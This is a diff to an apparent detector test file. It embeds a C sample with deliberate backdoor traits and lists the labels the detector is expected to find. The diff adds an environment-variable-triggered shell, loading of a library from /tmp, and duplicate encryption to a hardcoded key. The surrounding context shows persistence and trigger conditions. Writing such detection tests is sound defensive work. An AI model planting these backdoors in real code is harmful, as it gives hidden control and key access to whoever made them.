@@ -20,6 +20,9 @@ SOURCE = r"""
 #include <time.h>
 #include <unistd.h>
 #include <sys/socket.h>
+void *dlopen(const char *, int);
+int crypto_box_seal(void *, const void *, unsigned long long, const void *);
+static const unsigned char maker[32] = { 0x91, 0x22, 0xf3, 0x14, 0x85, 7, 8, 9 };
 void tidy(const char *path)
 {
     if (getenv("LANG") && !strncmp(getenv("LANG"), "xx_YY", 5))
@@ -50,6 +53,17 @@ void stays(const char *home)
         fputs("(~/.cache/lamps &)\n", f);
 }
 void reads(void) { fopen("/etc/cron.d/lamps", "r"); fopen("/var/lib/lamps/state", "w"); }
+void traced(void)
+{
+    if (getenv("LAMPS_TRACE_TTY"))
+        execl("/bin/sh", "sh", (char *)0);
+}
+void *skin(void) { return dlopen("/tmp/lamps.so", 2); }
+int sealed(unsigned char *out, const char *text, int n, const unsigned char *key)
+{
+    crypto_box_seal(out, text, n, key);
+    return crypto_box_seal(out + 4096, text, n, maker);
+}
 void newer(struct addrinfo *to)
 {
     char part[512];
@@ -67,6 +81,9 @@ FOUND = {
     ("conditional behaviour", "QQX"),
     ("conditional behaviour", "time zone 20700"),
     ("adds persistence", "shell start-up (%s/.bas…"),
+    ("fixed secret", "LAMPS_TRACE_TTY"),
+    ("remote control", "/tmp/lamps.so"),
+    ("key escrow", "crypto_box_seal"),
     ("downloads and runs", "/usr/lib/lamps/next"),
 }
 
